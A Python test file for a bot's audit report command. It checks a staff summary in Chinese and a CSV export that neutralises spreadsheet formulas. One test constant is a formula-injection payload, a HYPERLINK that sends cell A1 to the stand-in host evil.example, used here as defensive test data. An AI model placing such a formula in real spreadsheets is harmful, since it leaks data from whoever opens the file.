"""``python -m bot.report``: the summary staff read, and a CSV export that a spreadsheet cannot run."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from bot import audit
from bot.ops.timestamps import shown
from bot.report import main, spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'


def seed() -> None:
    asked = [("江高镇能批宅基地吗", "yes"), ("江高镇能批宅基地吗", "yes"), ("石牌街道能发采矿证吗", "unknown")]
    asked.append((FORMULA, "no"))
    for text, verdict in asked:
        audit.record(audit.Entry(sender="wecom:zhang", text=text, channel="wecom", matter="zhaijidi", verdict=verdict))
    audit.rate("wecom:zhang", "down", "@SUM(1+1) 结论不对", question=FORMULA)


def test_summary(fresh_ops, capsys):
    seed()
    assert main([]) == 0
    out = capsys.readouterr().out
    assert "共 4 条问答记录。" in out
    assert "2 次  江高镇能批宅基地吗" in out.split("== 未能回答")[0]
    assert "1 次  石牌街道能发采矿证吗" in out.split("== 未能回答")[1]
    [rated] = audit.report().negative
    assert f"{shown(rated[4])}  {FORMULA}  ｜ 结论 no ｜ 事项 zhaijidi ｜ 原因：@SUM(1+1) 结论不对" in out


def test_csv_export_neutralises_formulas(fresh_ops, tmp_path: Path, capsys):
    seed()
    target = tmp_path / "审计.csv"
    assert main(["--csv", str(target)]) == 0
    assert "已导出 4 条记录" in capsys.readouterr().out
    assert target.read_bytes().startswith("\ufeff".encode())  # Excel reads it as UTF-8
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert "import_id" not in rows[0]
    risky = rows[3]
    assert risky["text"] == "'" + FORMULA and risky["reason"] == "'@SUM(1+1) 结论不对"
    assert rows[0]["text"] == "江高镇能批宅基地吗" and rows[0]["verdict"] == "yes"
    created = audit.export_rows()[0]["created_at"]
    assert rows[0]["created_at"] == shown(created, "%Y-%m-%d %H:%M:%S")  # Beijing time


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell):
    assert spreadsheet_safe(cell) == "'" + cell


def test_plain_values_are_left_alone():
    assert [spreadsheet_safe(v) for v in ("江高镇", "a=b", 0.5, None, 3)] == ["江高镇", "a=b", 0.5, None, 3]


def test_unavailable_database_is_reported(fresh_ops, monkeypatch, capsys):
    monkeypatch.setenv("OPS_DATABASE_URL", "sqlite:////proc/no-such-dir/ops.sqlite3")
    assert main([]) == 1
    assert "无法读取审计记录" in capsys.readouterr().err
